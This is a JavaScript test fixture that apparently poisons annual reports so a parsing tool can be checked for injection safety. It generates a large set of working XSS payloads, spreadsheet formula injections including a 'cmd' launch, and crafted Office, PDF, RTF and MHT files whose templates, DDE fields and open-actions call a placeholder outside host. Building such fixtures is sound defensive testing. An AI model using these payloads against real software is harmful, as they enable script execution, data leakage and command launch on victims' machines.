// Reports that try to run something, to reach the server `elsewhere`, or to leave a formula behind: as text, as HTML and
// as files. All of it is data; nothing of it may ever have an effect.
import { readFileSync } from "node:fs";

const REPORTS = new URL("../reports/", import.meta.url);
export const report = (name) => readFileSync(new URL(name, REPORTS));
const NAME = "新乡经济技术开发区管理委员会";

// Every way in which text that is taken for HTML, a link, a style or a formula would reach the server elsewhere or run; but
// no tag by which the whole is taken for HTML, so that the report around it is read.
export const hostile = (elsewhere) => `
<script>window.ran = 1</script><script src="${elsewhere}s.js"></script><script type="module" src="${elsewhere}m.mjs"></script>
<img src="${elsewhere}i.png" onerror="window.ran = 1"><img srcset="${elsewhere}i2.png 2x"><picture><source srcset="${elsewhere}i3"></picture>
<iframe src="${elsewhere}f"></iframe><iframe srcdoc="<script>parent.ran = 1</script>"></iframe><iframe src="javascript:parent.ran = 1"></iframe>
<object data="${elsewhere}o"></object><embed src="${elsewhere}e"><portal src="${elsewhere}po"></portal><applet code="${elsewhere}a"></applet>
<link rel="prefetch" href="${elsewhere}p"><link rel="preload" as="image" href="${elsewhere}p2"><link rel="dns-prefetch" href="${elsewhere}">
<link rel="preconnect" href="${elsewhere}"><link rel="manifest" href="${elsewhere}w"><link rel="stylesheet" href="${elsewhere}c.css">
<style>@import url("${elsewhere}m.css"); @import "${elsewhere}m2.css"; td { background: url(${elsewhere}b) }
@font-face { font-family: x; src: url(${elsewhere}w.woff2) } * { font-family: x; cursor: url(${elsewhere}cur), auto }</style>
<i style="background: url(${elsewhere}b2); behavior: url(${elsewhere}h)" onpointerover="window.ran = 1" background="${elsewhere}b3">x</i>
<a href="javascript:window.ran = 1" ping="${elsewhere}ping">javascript:window.ran = 1</a><a href="&#x6a;avascript:window.ran = 1">x</a>
<a href="data:text/html,<script>opener.ran = 1</script>" target="_blank">x</a><a href="${elsewhere}l" download>x</a>
<svg onload="window.ran = 1"><image href="${elsewhere}sv"></image><use href="${elsewhere}u#x"></use><script>window.ran = 1</script></svg>
<math href="javascript:window.ran = 1">x</math><details open ontoggle="window.ran = 1">x</details><marquee onstart="window.ran = 1">x</marquee>
<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript><template><img src=x onerror="window.ran = 1"></template>
<meta http-equiv="refresh" content="0; url=${elsewhere}r"><meta http-equiv="Content-Security-Policy" content="default-src *">
<form action="${elsewhere}"><input autofocus onfocus="window.ran = 1"><button formaction="${elsewhere}fa">x</button><input type="image" src="${elsewhere}ii"></form>
<video poster="${elsewhere}v"></video><audio src="${elsewhere}au" autoplay></audio><base href="${elsewhere}" target="_blank">
\${window.ran = 1} {{window.ran = 1}} ]]><script>window.ran = 1</script><!--><img src=x onerror=window.ran=1>-->
=HYPERLINK("${elsewhere}h","x") @SUM(1) +cmd|'/c calc'!A0 =IMPORTXML("${elsewhere}x","//a") ${elsewhere}t`;

// A sound report with some of it in the title, where a name is looked for, a formula in a cell, and all of it in the prose.
export function poisoned(elsewhere) {
  const evil = hostile(elsewhere);
  const name = `=1+1<img src=${elsewhere}n onerror=window.ran=1>${NAME}`;
  const text = report("xinxiang-edz-2023.txt").toString().replace(NAME, name).replace("\t3608", `\t=3608+WEBSERVICE("${elsewhere}c")`);
  return text.replace(/^一、.*$/m, (line) => `${line}\n${evil}`) + evil;
}

export const poisonedHtml = (elsewhere) =>
  report("full/012-html.html").toString().replace(/<td([^>]*)>/, `<td$1>${hostile(elsewhere)}`) + hostile(elsewhere);

const xml = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");

function crc32(bytes) {
  let crc = -1;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}

// A zip archive of stored files, given as { path: text }.
function zip(files) {
  const [parts, directory] = [[], []];
  let offset = 0;
  for (const [path, text] of Object.entries(files)) {
    const [name, bytes] = [Buffer.from(path), Buffer.from(text)];
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt32LE(crc32(bytes), 10);
    common.writeUInt32LE(bytes.length, 14);
    common.writeUInt32LE(bytes.length, 18);
    common.writeUInt16LE(name.length, 22);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(offset, 10);
    const local = Buffer.concat([Buffer.from("PK\x03\x04"), common, name, bytes]);
    directory.push(Buffer.concat([Buffer.from("PK\x01\x02\x14\x00"), common, place, name]));
    parts.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06");
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, central, end]);
}

const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const relations = (entries) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries.join("")}</Relationships>`;
const relation = (id, type, target, mode = "Internal") =>
  `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${xml(target)}" TargetMode="${mode}"/>`;

// A picture, a template and a frame from elsewhere, links, and fields that fetch.
function word(elsewhere) {
  const field = (code) => `<w:p><w:fldSimple w:instr="${xml(code)}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`;
  const body = [
    `<w:p><w:r><w:t>${xml(hostile(elsewhere))}</w:t></w:r></w:p>`,
    field(`INCLUDEPICTURE "${elsewhere}ip"`), field(`INCLUDETEXT "${elsewhere}it"`), field(`DDEAUTO c:\\\\x.exe "${elsewhere}d"`),
    '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="r1"/></w:drawing></w:r></w:p>',
    '<w:p><w:hyperlink r:id="r2"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>',
    `<w:tbl><w:tr><w:tc><w:p><w:r><w:t>${xml(hostile(elsewhere))}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>`,
  ];
  return zip({
    "_rels/.rels": relations([relation("r1", "officeDocument", "word/document.xml")]),
    "word/document.xml": `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:body>${body.join("")}</w:body></w:document>`,
    "word/_rels/document.xml.rels": relations([
      relation("r1", "image", `${elsewhere}wi`, "External"), relation("r2", "hyperlink", "javascript:window.ran = 1", "External"),
      relation("r3", "attachedTemplate", `${elsewhere}wt`, "External"), relation("r4", "frame", `${elsewhere}wf`, "External"),
    ]),
  });
}

// Formulas that fetch, and links.
function workbook(elsewhere) {
  const formula = (at, code) => `<c r="${at}" t="str"><f>${xml(code)}</f><v>${xml(`=${code}`)}</v></c>`;
  const row = formula("A1", `WEBSERVICE("${elsewhere}ws")`) + formula("B1", `HYPERLINK("${elsewhere}hl","x")`)
    + `<c r="C1" t="inlineStr"><is><t>${xml(hostile(elsewhere))}</t></is></c>`;
  return zip({
    "_rels/.rels": relations([relation("r1", "officeDocument", "xl/workbook.xml")]),
    "xl/workbook.xml": `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheets><sheet name="&lt;img src=x onerror=window.ran=1&gt;" sheetId="1" r:id="r1"/></sheets></workbook>`,
    "xl/_rels/workbook.xml.rels": relations([relation("r1", "worksheet", "worksheets/sheet1.xml"), relation("r2", "externalLink", `${elsewhere}xl`, "External")]),
    "xl/worksheets/sheet1.xml": `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${row}</row></sheetData></worksheet>`,
  });
}

// Actions that run when the document is opened, and a link.
function pdf(elsewhere) {
  const text = "BT /F1 12 Tf 72 700 Td (<script>window.ran = 1</script>) Tj ET";
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL('" + elsewhere + "pj')) >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>
      /AA << /O << /S /URI /URI (${elsewhere}pu) >> >>
      /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:window.ran = 1) >> >>] >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let [out, places] = ["%PDF-1.7\n", []];
  objects.forEach((object, at) => {
    places.push(out.length);
    out += `${at + 1} 0 obj\n${object}\nendobj\n`;
  });
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  const end = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>`;
  return Buffer.from(`${out}${end}\nstartxref\n${out.length}\n%%EOF\n`);
}

const rtf = (elsewhere) =>
  `{\\rtf1\\ansi {\\*\\template ${elsewhere}rt} {\\field{\\*\\fldinst INCLUDEPICTURE "${elsewhere}ri" \\\\d}{\\fldrslt x}}
{\\field{\\*\\fldinst HYPERLINK "javascript:window.ran = 1"}{\\fldrslt <script>window.ran = 1</script>}}
{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}{\\*\\objdata 01}} <img src=x onerror=window.ran=1>\\par}`;

const mht = (elsewhere) => `MIME-Version: 1.0\r
Content-Type: multipart/related; boundary="x"; type="text/html"\r
\r
--x\r
Content-Type: text/html; charset=utf-8\r
Content-Location: ${elsewhere}index.html\r
\r
${poisonedHtml(elsewhere)}\r
--x--\r
`;

// Files of every kind that can name an address; [name, bytes, format of the report in it, if there is one].
export const files = (elsewhere) => [
  ["<img src=x onerror=ran=1>.html", Buffer.from(poisonedHtml(elsewhere)), "html"],
  ["年报.docx", word(elsewhere)],
  ["=年报.xlsx", workbook(elsewhere)],
  ["年报.pdf", pdf(elsewhere)],
  ["年报.rtf", Buffer.from(rtf(elsewhere))],
  ["年报.mht", Buffer.from(mht(elsewhere)), "mht"],
];
